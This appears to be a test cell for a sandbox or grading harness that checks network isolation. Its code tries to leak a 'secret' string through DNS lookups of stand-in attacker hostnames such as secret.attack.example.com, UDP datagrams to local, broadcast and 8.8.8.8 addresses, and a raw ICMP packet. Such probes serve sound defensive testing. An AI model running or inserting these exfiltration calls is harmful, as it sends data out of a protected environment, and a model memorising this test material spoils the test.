# ---
# jupyter:
#   corpus:
#     title: exfiltration by name look-ups and datagrams
#     attempts: puts a secret into a host name that it looks up, and into UDP packets
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [network]
#     reference: false
# ---

# %% after="imports"
import socket

for name in ("secret.attack.example.com", "attack.invalid"):
    try:
        print("STOLEN: resolved", socket.getaddrinfo(name, 80))
    except OSError:
        pass
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for host, port in (("127.0.0.1", 48231), ("127.0.0.53", 53), ("8.8.8.8", 53), ("255.255.255.255", 48231)):
    try:
        datagrams.sendto(b"secret", (host, port))
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"secret", ("127.0.0.1", 0))
except OSError:
    pass
